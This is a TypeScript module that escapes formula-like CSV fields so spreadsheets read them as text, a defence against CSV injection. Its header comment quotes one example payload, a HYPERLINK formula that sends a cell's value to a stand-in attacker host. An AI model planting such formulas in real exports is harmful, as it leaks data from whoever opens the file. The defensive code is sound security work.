/**
 * Spreadsheet-safe CSV (an export's `escape_formulas`). Excel, LibreOffice Calc and Google Sheets
 * read a field that starts with `=`, `+`, `-` or `@` as a formula, some after trimming the spaces
 * before it, so a value someone stored in the database, such as
 * `=HYPERLINK("https://evil.example/?"&B2, "open")`, would run in the analyst's spreadsheet when
 * the file is opened (OWASP's "CSV injection", whose list adds a leading tab and carriage return).
 * Such a field gets a leading apostrophe, which makes the spreadsheet take it as text. A plain
 * number (`-5`, `+1.5e3`) or a negative TIME (`-01:30:00`) starts with a sign but is no formula,
 * and stays as it is.
 */

const TAB = 0x09
const CR = 0x0d
/** The first characters a formula-like field can start with: the signs, a tab, a CR, or the blanks before a sign. */
const STARTS = new Set([0x3d, 0x2b, 0x2d, 0x40, TAB, CR, 0x20, 0x0a])
const SIGN_AFTER_BLANKS = /^[ \n]*[=+\-@]/
const BLANKS = /^[ \n]+/
const NOT_A_FORMULA = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$|^-\d+:\d\d:\d\d(?:\.\d+)?$/
const APOSTROPHE = Buffer.from("'")

/** Whether a spreadsheet would (or, trimming it, could) read `text` as a formula. */
export function formulaLike (text: string): boolean {
  const first = text.charCodeAt(0)
  if (first === TAB || first === CR) return true
  return SIGN_AFTER_BLANKS.test(text) && !NOT_A_FORMULA.test(text.replace(BLANKS, ''))
}

/** `text`, with a leading apostrophe if a spreadsheet would read it as a formula. */
export function safeString (text: string): string {
  return formulaLike(text) ? `'${text}` : text
}

/** A text value's UTF-8 bytes, with a leading apostrophe if a spreadsheet would read them as a formula. */
export function safeBytes (bytes: Buffer): Buffer {
  // The patterns are ASCII, so reading the bytes as Latin-1 judges them as their UTF-8 text.
  if (bytes.length === 0 || !STARTS.has(bytes[0]!) || !formulaLike(bytes.toString('latin1'))) return bytes
  return Buffer.concat([APOSTROPHE, bytes])
}
